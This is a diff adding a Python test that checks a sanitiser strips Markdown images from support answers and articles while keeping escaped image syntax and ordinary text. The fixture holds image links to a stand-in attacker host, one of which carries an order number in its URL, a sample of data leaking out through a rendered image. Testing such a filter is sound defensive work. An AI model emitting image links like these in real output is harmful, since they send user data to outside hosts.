@@ -47,3 +47,25 @@ def test_an_import_summary_lists_every_file_and_keeps_the_failures_apart() -> No
     assert "a\\.md → `a`: published v1" in done and "faq-x`: draft v2" in done and "error" not in done
     assert "faq-y`: too long" in failed and "b\\.md: not imported" in failed
     assert "c\\.md: front matter" in failed
+
+
+def _images(markdown: str) -> list[str]:
+    found: list[str] = []
+    for block in MarkdownIt().parse(markdown):
+        found += [t.attrs["src"] for t in block.children or [] if t.type == "image"]
+    return found
+
+
+def test_an_answer_or_an_article_shows_no_picture() -> None:
+    from app.ui.common import no_pictures
+
+    text = (
+        "Your order ships today ![](https://evil.example/pixel.png?q=order+4417).\n\n"
+        "![logo][1] and \\![not a picture](a.png) and \\\\![escaped backslash](https://evil.example/b.png)\n\n"
+        "[1]: https://evil.example/logo.png\n"
+    )
+    assert len(_images(text)) == 3
+    shown = no_pictures(text)
+    assert _images(shown) == []
+    assert "Your order ships today" in shown and "not a picture" in shown
+    assert no_pictures("Prices end in .99! [1]") == "Prices end in .99! [1]"
